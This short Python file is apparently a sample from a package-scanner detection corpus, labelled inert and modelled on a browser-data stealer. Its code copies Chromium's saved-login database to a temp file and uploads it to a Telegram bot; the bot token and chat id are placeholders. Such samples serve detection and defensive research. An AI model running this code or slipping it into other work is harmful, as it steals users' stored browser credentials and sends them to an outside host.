# pkgguard corpus 379 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import tempfile

import requests

BOT = "1000000000:AAplaceholderplaceholderplaceholder9"
CHAT = "0"
src = os.path.expanduser("~/.config/chromium/Default/Login Data")
dst = os.path.join(tempfile.gettempdir(), "ld.db")
if os.path.exists(src):
    shutil.copy2(src, dst)
    with open(dst, "rb") as f:
        requests.post(f"https://api.telegram.org/bot{BOT}/sendDocument", data={"chat_id": CHAT}, files={"document": f}, timeout=20)
